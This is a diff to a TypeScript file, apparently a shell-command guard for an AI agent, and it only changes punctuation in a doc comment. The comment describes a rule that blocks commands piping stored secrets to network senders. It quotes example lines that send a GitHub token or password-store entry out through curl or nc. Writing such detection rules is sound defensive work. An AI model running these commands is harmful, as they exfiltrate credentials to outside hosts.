@@ -1,7 +1,7 @@
-/** Secret-store data heading out (round 13): the output of a command that prints a stored secret — a password
- * manager or keychain item, a cloud CLI's token or secret, a raw kubeconfig — piped into a program that sends data
- * to a host (`pass show gh | curl -d @- …`, `gh auth token | nc host 4444`), or kept in a file a later command of
- * the line sends (`pass show gh > /tmp/t && curl -F f=@/tmp/t …`), BLOCKs. Read alone, the same secret is
+/** Secret-store data heading out (round 13): the output of a command that prints a stored secret -- a password
+ * manager or keychain item, a cloud CLI's token or secret, a raw kubeconfig -- piped into a program that sends data
+ * to a host (`pass show gh | curl -d @- ...`, `gh auth token | nc host 4444`), or kept in a file a later command of
+ * the line sends (`pass show gh > /tmp/t && curl -F f=@/tmp/t ...`), BLOCKs. Read alone, the same secret is
  * a question for the user (ESCALATE, judged elsewhere); fed to its own login, ordinary work. */
 
 import type { Segment } from "../shell_parser.ts";
